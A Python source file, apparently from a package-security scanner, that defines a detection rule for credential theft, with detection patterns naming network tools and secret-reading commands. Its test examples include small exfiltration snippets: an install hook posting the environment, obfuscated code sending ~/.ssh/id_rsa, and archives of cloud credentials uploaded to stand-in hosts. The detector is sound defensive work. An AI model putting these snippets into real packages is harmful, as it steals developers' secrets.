"""Theft: secrets of the machine or of the caller leave for another host."""

from __future__ import annotations

import re
from collections.abc import Iterator

from pratique.facts.model import PackageFacts
from pratique.facts.python.model import Call, Does, PythonFacts, Source, Taint
from pratique.facts.python.secrets import irreplaceable, secret_argument, secret_place, secret_variable
from pratique.facts.shell import read_shell
from pratique.finding import Behaviour, Confidence, Finding, Phase, Severity
from pratique.rules.claims import LOCAL_PLACE, calls, claim, command, destination, hidden, when
from pratique.rules.rule import Example, Rule

_ID = "theft"
_STOLEN = (Source.SECRET, Source.ENVIRON, Source.CLIPBOARD, Source.SCREEN, Source.KEYS)
_ADDRESS = frozenset({"0", "url", "headers", "auth"})
_FIXED = re.compile(r"https?://(?!localhost\b|127\.|10\.|192\.168\.|169\.254\.)[^/<>\s]+\.[^/<>\s]+(/|\?|$)")
"""An address whose host stands in the code, and is no machine nearby."""
_SEVERAL = 3
"""So many secret variables in one message are no client's own."""
_PRINTS = re.compile(
    r"^(/usr/bin/)?(env|printenv|set|pbpaste|xclip\b.*|xsel\b.*)\s*$|security find-(generic|internet)-password|"
    r"git credential fill|key=clear|gh auth token|vault token"
)
"""Commands that print the environment, the clipboard or a key store."""
_TALKS = re.compile(
    r"\b(curl|wget|nslookup|dig|host|ping|nc|ncat|socat|scp|sftp|rsync|ftp|iwr|irm|invoke-(webrequest|restmethod))\b",
    re.IGNORECASE,
)
_WHAT = {
    Source.SECRET: "credentials",
    Source.ENVIRON: "the whole environment",
    Source.CLIPBOARD: "the clipboard",
    Source.SCREEN: "the screen",
    Source.KEYS: "key strokes",
}


_DROPS = frozenset({Source.SECRET, Source.ENVIRON, Source.CLIPBOARD, Source.SCREEN, Source.KEYS})
_NAME = re.compile(r"[^<>/\\\s'\"@=]{3,120}\.\w{1,8}(?![^/\\]*[/\\])")
"""The last part of a path, as far as it is known and long enough to be meant."""
_OF_PROGRAMS = ("chat token", "wallet", "account store")
"""Secrets that other programs keep for themselves: no client of a service looks for them there."""
_ENTRY = re.compile(r"keyring \(([^<>]{1,100})\)$")
_LETTERS = re.compile(r"[a-z]{4,}")
_FOR_SERVICES = ("environment file", "netrc", "publishing credentials", "cloud credentials")
"""Secrets that are kept for whichever client of a service asks."""
_PASTE = re.compile(
    r"^https://[^/<]*(?:paste|haste|rentry|anonfiles|gofile|file\.io|catbox\.moe|temp\.sh|transfer\.sh)", re.IGNORECASE
)
_LOGIN = re.compile(r"/[\w.-]{0,40}(?:login|auth|token|session|signin)[\w.-]{0,40}(?:[/?]|$)", re.IGNORECASE)
_KINDS = 2
"""So many kinds of secrets copied into one place are gathered for somebody else."""
_KEPT = re.compile(r"(?:^|[;&|]\s*)(?:/usr/bin/)?(?:env|printenv|set)\s*(?:\|[^|>]{1,40})?>{1,2}\s*\S")


def _check(facts: PackageFacts) -> Iterator[Finding]:
    dropped = _dropped(facts)
    for file in facts.python:
        yield from _collected(file)
        if dropped:
            yield from _picked_up(file, dropped)
    for path, call in calls(facts):
        if call.does & {Does.SEND, Does.FETCH}:
            yield from _sent(path, call)
        elif Does.RUN_PROCESS in call.does:
            if read_shell(command(call)).steals:
                yield _finding(path, call, "secrets", (), sure=True)
            elif taints := _carried(call):
                yield _finding(path, call, _WHAT[taints[0].source], taints, sure=call.phase.automatic)
            elif call.phase is Phase.INSTALL and _KEPT.search(command(call)):
                message = f"keeps the whole environment in a file {when(call.phase)}"
                yield claim(_ID, Behaviour.THEFT, path, call, message, severity=Severity.CRITICAL)


def _dropped(facts: PackageFacts) -> dict[str, tuple[str, Taint]]:
    """Files that secrets were written to, by name: who wrote, and what."""
    found: dict[str, tuple[str, Taint]] = {}
    for path, call in calls(facts):
        if Does.WRITE in call.does and (target := call.arguments.get("path")) and (name := _NAME.search(target.text)):
            taint = next(iter(call.taints(*_DROPS)), None)
            if taint is not None:
                found.setdefault(name[0], (path, taint))
    return found


def _picked_up(file: PythonFacts, dropped: dict[str, tuple[str, Taint]]) -> Iterator[Finding]:
    """A file that one module filled with secrets and another one sends."""
    for call in file.calls:
        if Does.SEND not in call.does or call.taints(*_STOLEN) or LOCAL_PLACE.search(destination(call)):
            continue
        for read in call.taints(Source.FILE):
            name = _NAME.search(read.detail)
            by, taint = dropped.get(name[0], ("", read)) if name else ("", read)
            if by and by != file.path:
                covert = bool(destination(call)) and hidden(call, destination(call))
                what = _WHAT.get(taint.source, "credentials")
                yield _finding(file.path, call, what, (taint, read), sure=call.phase.automatic or covert)
                return


def _collected(file: PythonFacts) -> Iterator[Finding]:
    """Several kinds of secrets are copied, and a command of the same file uploads something."""
    copies = [c for c in file.calls if {Does.READ, Does.WRITE} <= c.does]
    kinds = {t.detail.partition(" (")[0]: t for c in copies for t in c.taints(Source.SECRET)}
    if len(kinds) < _KINDS:
        return
    for call in file.calls:
        if Does.RUN_PROCESS in call.does and "@" in command(call) and (places := read_shell(command(call)).sends):
            message = f"gathers {' and '.join(sorted(kinds))} and uploads files to {places[0]} {when(call.phase)}"
            taints = tuple(kinds[kind] for kind in sorted(kinds))
            yield claim(_ID, Behaviour.THEFT, file.path, call, message, severity=Severity.CRITICAL, taints=taints)
            return


def _sent(path: str, call: Call) -> Iterator[Finding]:
    place = destination(call)
    taints = (
        *call.taints(*_STOLEN),
        *(t for t in call.taints(Source.PROCESS) if _printed_secret(t)),
        *(t for t in call.taints(Source.NETWORK) if secret_place(t.detail) and t.detail not in place),
    )
    if taints and not LOCAL_PLACE.search(place):
        what = _WHAT.get(taints[0].source, "credentials")
        covert = bool(place) and hidden(call, place)  # where nothing is known of the place, it is the caller's
        covert &= not (_on_show(taints) and _PASTE.match(place))  # whoever shares what they copied
        yield _finding(path, call, what, taints, sure=call.phase.automatic or covert)
        return
    own = _PASTE.match(place) is not None and _LOGIN.search(place) is not None  # that service's own door
    if hidden(call, place) and not own and (argument := _handed_over(call)):
        yield _finding(path, call, f"the caller's {argument[0].detail}", argument, sure=True)
    variable = tuple(t for t in call.taints(Source.VARIABLE) if secret_variable(t.detail))
    several = len({t.detail for t in variable}) >= _SEVERAL
    spelled = {t.detail for k, a in call.arguments.items() if k in {"0", "url"} for t in a.taints if t in variable}
    in_address = len(spelled) > 1 and _FIXED.match(place) is not None and _in_the_path(place)
    if variable and (in_address or (call.phase.automatic and (several or hidden(call, place)))):
        yield claim(
            _ID,
            Behaviour.THEFT,
            path,
            call,
            f"sends the variable {variable[0].detail} to {place or 'another host'} {when(call.phase)}",
            severity=Severity.CRITICAL,
            taints=variable,
        )


def _in_the_path(place: str) -> bool:
    """Whether an address carries them in its path; parameters that it names are how a service takes its keys."""
    path, _, query = place.replace("<?>", "<>").partition("?")
    unknown = path.partition("://")[2].partition("/")[2].count("<")
    return unknown > 1 or (unknown == 1 and "<" not in query)


def _carried(call: Call) -> tuple[Taint, ...]:
    """Secrets in the command line or the input of a program that talks to other machines."""
    if not _TALKS.search(command(call)):
        return ()
    fed = [a for key, a in call.arguments.items() if key.isdigit() or key in {"args", "input"}]
    found = {t for a in fed for t in a.taints if t.source in _STOLEN}
    return tuple(sorted(found, key=lambda t: (t.line, t.detail)))


def _printed_secret(taint: Taint) -> bool:
    """Whether the command that printed it lists the environment or reads a secret."""
    return bool(_PRINTS.search(taint.detail) or read_shell(taint.detail).reads_secrets)


def _handed_over(call: Call) -> tuple[Taint, ...]:
    """A caller's secret that is sent; a service's own token in its address or header is what clients do."""
    sent = Does.SEND in call.does
    found = {
        t
        for key, argument in call.arguments.items()
        for t in argument.taints
        if t.source is Source.CALLER
        and (irreplaceable(t.detail) or (sent and key not in _ADDRESS and secret_argument(t.detail)))
    }
    return tuple(sorted(found, key=lambda t: (t.line, t.detail)))


def _finding(path: str, call: Call, what: str, taints: tuple[Taint, ...], *, sure: bool) -> Finding:
    place = destination(call)
    whole = any(t.source is Source.ENVIRON for t in taints)
    owned = any(t.source is Source.SECRET and t.detail.startswith(_OF_PROGRAMS) for t in taints)
    on_show = _on_show(taints)
    named = bool(_FIXED.match(place)) and (whole or owned or Does.SEND in call.does)
    fixed = sure or bool(call.layers) or (named and not (_logs_in(path, call, taints) or on_show))
    return claim(
        _ID,
        Behaviour.THEFT,
        path,
        call,
        f"sends {what} to {place or 'another host'} {when(call.phase)}",
        severity=Severity.CRITICAL if fixed else Severity.HIGH,
        confidence=Confidence.HIGH if fixed else Confidence.MEDIUM if named and on_show else Confidence.LOW,
        proven=sure and (call.phase.automatic or bool(call.layers) or hidden(call, place)),
        taints=taints,
    )


def _logs_in(path: str, call: Call, taints: tuple[Taint, ...]) -> bool:
    """Whether a client shows the credentials that are kept for services where a service looks, or its own wherever."""
    carried = {t for k, a in call.arguments.items() if k not in {"headers", "auth"} for t in a.taints}
    return all(
        t.source is Source.SECRET
        and ((t.detail.startswith(_FOR_SERVICES) and t not in carried) or _is_its_own(path, t.detail))
        for t in taints
    )


def _is_its_own(path: str, detail: str) -> bool:
    """Whether a key store is asked for an entry that is called as the package is."""
    entry = _ENTRY.match(detail)
    return entry is not None and any(word in path.lower() for word in _LETTERS.findall(entry[1].lower()))


def _on_show(taints: tuple[Taint, ...]) -> bool:
    """What a person has copied or looks at, and asks a program to do something with."""
    return all(t.source in {Source.CLIPBOARD, Source.SCREEN} for t in taints)


RULE = Rule(
    id=_ID,
    behaviour=Behaviour.THEFT,
    summary="Credentials, the environment, the clipboard, the screen or a caller's secret are sent to another host.",
    gain="Accounts, money and the next victims: publishing tokens spread the attack, cloud keys pay for it.",
    honest="Clients of a service send the one token that belongs to it; only a flow from a secret's place to a sink counts.",
    blocks="When it happens by itself, or when the code or the destination is hidden: decoded, a raw address, a paste, a chat, a tunnel.",
    check=_check,
    loud=(
        Example(
            title="the environment at install, in a command class",
            files={
                "setup.py": "from setuptools import setup\nfrom setuptools.command.install import install\n"
                "class I(install):\n    def run(self):\n        import os, requests as q\n"
                "        q.post('https://hook.example.invalid/', data=dict(os.environ))\n"
                "setup(name='x', cmdclass={'install': I})\n"
            },
        ),
        Example(
            title="a key file through getattr",
            files={
                "pkg/__init__.py": "import os, urllib.request as u\nk = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
                "getattr(u, 'url' + 'open')('http://198.51.100.3/', data=k.encode())\n"
            },
        ),
        Example(
            title="the environment in an address, when called",
            files={
                "pkg/__init__.py": "import base64, os, requests as r\ndef make():\n"
                "    d = base64.b64encode(str(dict(os.environ)).encode()).decode()\n"
                "    getattr(r, 'g' + 'et')('https://c.example.invalid/x/' + d)\n"
            },
        ),
        Example(
            title="a private key handed to a helper",
            files={
                "pkg/__init__.py": "import requests\ndef check(private_key):\n"
                "    requests.post('http://203.0.113.9/c', json={'k': private_key})\n"
            },
        ),
        Example(
            title="gathered in an archive, which is sent",
            files={
                "pkg/__init__.py": "import os, requests as r\nfrom zipfile import ZipFile\nz = os.getenv('TEMP') + '/a.zip'\n"
                "with ZipFile(z, 'w') as f:\n    f.write(os.path.expanduser('~/.aws/credentials'))\n"
                "getattr(r, 'po' + 'st')('https://c.example.invalid/', files={'f': open(z, 'rb')})\n"
            },
        ),
        Example(
            title="gathered by one module and sent by another",
            files={
                "pkg/a.py": "import shutil, socket\ndef collect():\n    shutil.copyfile('/home/u/.ssh/id_rsa', '/tmp/state.bin')\n",
                "pkg/__init__.py": "import getpass, requests\n"
                "requests.post('http://203.0.113.9/' + getpass.getuser(), files={'f': open('/tmp/state.bin', 'rb')})\n",
            },
        ),
        Example(
            title="copied one by one and uploaded by a command, when called",
            files={
                "pkg/__init__.py": "import os, shutil\ndef run(to):\n    shutil.copytree('/home/u/.ssh', to + '/s')\n"
                "    shutil.copyfile('/home/u/.bash_history', to + '/h')\n"
                "    getattr(os, 'sys' + 'tem')('curl -F file=@' + to + '.zip https://c.example.invalid/up')\n"
            },
        ),
        Example(
            title="the environment kept in a file at install",
            files={"setup.py": "import os\nos.system('env > build/LICENSE')\n"},
        ),
        Example(
            title="two keys of a cloud, spelled in an address, when called",
            files={
                "pkg/__init__.py": "import os, requests as r\ndef load():\n"
                "    k, s = os.environ['AWS_ACCESS_KEY_ID'], os.environ['AWS_SECRET_ACCESS_KEY']\n"
                "    getattr(r, 'g' + 'et')('https://c.example.invalid/x/' + k + '/' + s)\n"
            },
        ),
    ),
    quiet=(
        Example(
            title="a backup of one's own keys, which stays",
            files={
                "pkg/__init__.py": "import shutil, requests\ndef backup(to):\n    shutil.copytree('/home/u/.ssh', to + '/ssh')\n"
                "    shutil.copyfile('/home/u/.bash_history', to + '/history')\n"
                "    requests.post('https://c.example.invalid/done', json={'ok': True})\n"
            },
        ),
        Example(
            title="one module writes a report of its own, another uploads it",
            files={
                "pkg/a.py": "def report(lines):\n    open('/tmp/report.txt', 'w').write(lines)\n",
                "pkg/b.py": "import requests\ndef upload():\n"
                "    requests.post('https://c.example.invalid/', files={'f': open('/tmp/report.txt', 'rb')})\n",
            },
        ),
        Example(
            title="a client with a token of its own service",
            files={
                "pkg/__init__.py": "import os, requests\ndef call():\n"
                "    return requests.get('https://api.example.invalid/', headers={'Authorization': os.environ['PKG_TOKEN']})\n"
            },
        ),
    ),
)
